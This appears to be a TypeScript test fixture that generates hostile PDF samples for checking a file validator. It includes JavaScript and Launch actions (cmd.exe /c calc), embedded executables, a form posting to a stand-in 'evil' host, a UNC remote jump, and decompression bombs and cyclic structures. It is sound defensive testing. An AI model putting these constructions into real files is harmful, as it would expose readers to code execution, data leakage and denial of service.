import { deflateSync } from 'node:zlib'
import { pdfFile } from '@/prisma/seed/sample-files'

export type Hostile = [what: string, name: string, bytes: () => Buffer]

const stream = (number: number, head: string, content: Buffer | string): string =>
  `${number} 0 obj<<${head}/Length ${content.length}>>stream\n${Buffer.from(content as string, 'latin1').toString('latin1')}\nendstream endobj`
const packed = (number: number, head: string, inner: string): string => {
  const bytes = deflateSync(Buffer.from(inner, 'latin1'))
  return stream(number, `${head}/Filter/FlateDecode`, bytes)
}
const action = (inner: string): Buffer => pdfFile(1, `/OpenAction<<${inner}>>`)
const pdfText = (text: string): Buffer => Buffer.from(text, 'latin1')
/** PDFs that act, carry, reach out, or wear out their reader. */
export const hostilePdfs: readonly Hostile[] = [
  ['a script', 'a.pdf', () => action('/S/JavaScript/JS(app.alert(1))')],
  ['a script with a masked name', 'a.pdf', () => action('/S/J#61v#61Script/JS(app.alert(1))')],
  [
    'a script in a compressed object',
    'a.pdf',
    () => pdfFile(1, '', packed(9, '/Type/ObjStm/N 1/First 4', '9 0 <</S/JavaScript/JS(1)>>')),
  ],
  [
    'a script in a compressed object by another filter',
    'a.pdf',
    () => pdfFile(1, '', stream(9, '/Type/ObjStm/N 1/First 4/Filter/LZWDecode', 'x')),
  ],
  ['a script when a page opens', 'a.pdf', () => pdfFile(1, '/AA<</O<</S/JavaScript/JS(1)>>>>')],
  ['a program to launch', 'a.pdf', () => action('/S/Launch/F(cmd.exe)')],
  ['a program to launch under Windows', 'a.pdf', () => action('/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>')],
  [
    'an attachment',
    'a.pdf',
    () => pdfFile(1, '/Names<</EmbeddedFiles<</Names[(a)9 0 R]>>>>', stream(9, '/Type/EmbeddedFile', 'MZ')),
  ],
  [
    'an attachment pinned to a page',
    'a.pdf',
    () => pdfFile(1, '', '9 0 obj<</Type/Annot/Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 8 0 R>>>>>>endobj'),
  ],
  ['a film', 'a.pdf', () => pdfFile(1, '', '9 0 obj<</Subtype/RichMedia>>endobj')],
  ['a form that sends itself', 'a.pdf', () => action('/S/SubmitForm/F(http://evil/)')],
  [
    'a form of XML (XFA)',
    'a.pdf',
    () => pdfFile(1, '/AcroForm<</XFA 9 0 R>>', stream(9, '', '<xdp:xdp><script>1</script></xdp:xdp>')),
  ],
  ['a jump into another document', 'a.pdf', () => action('/S/GoToR/F(\\\\\\\\evil\\\\a.pdf)/D[0/Fit]')],
  ['a password', 'a.pdf', () => pdfFile(1, '/Encrypt 9 0 R')],
  [
    'a stream that unpacks a thousandfold',
    'a.pdf',
    () => pdfFile(1, '', packed(9, '/Type/ObjStm/N 1/First 4', ' '.repeat(70_000_000))),
  ],
  [
    'a page whose drawing unpacks to 200 MB',
    'a.pdf',
    () =>
      pdfText(
        pdfFile(1)
          .toString('latin1')
          .replace('/MediaBox', '/Contents 9 0 R/MediaBox')
          .replace('trailer', `${packed(9, '', ' '.repeat(200_000_000))}\ntrailer`),
      ),
  ],
  [
    'pages in a circle',
    'a.pdf',
    () =>
      pdfText(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 3>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
      ),
  ],
  [
    'a million pages that are not there',
    'a.pdf',
    () => pdfText(pdfFile(1).toString('latin1').replace('/Count 1', '/Count 999999')),
  ],
  ['brackets without end', 'a.pdf', () => pdfText(`%PDF-1.7\n1 0 obj${'['.repeat(200_000)}\ntrailer<</Root 1 0 R>>`)],
  [
    'a table of places in a circle',
    'a.pdf',
    () => pdfText('%PDF-1.7\nxref\n0 1\n0000000000 65535 f\ntrailer<</Prev 9/Root 1 0 R>>\nstartxref\n9\n%%EOF'),
  ],
  ['no pages', 'a.pdf', () => pdfFile(0)],
  ['half a document', 'a.pdf', () => pdfFile(3).subarray(0, 100)],
]
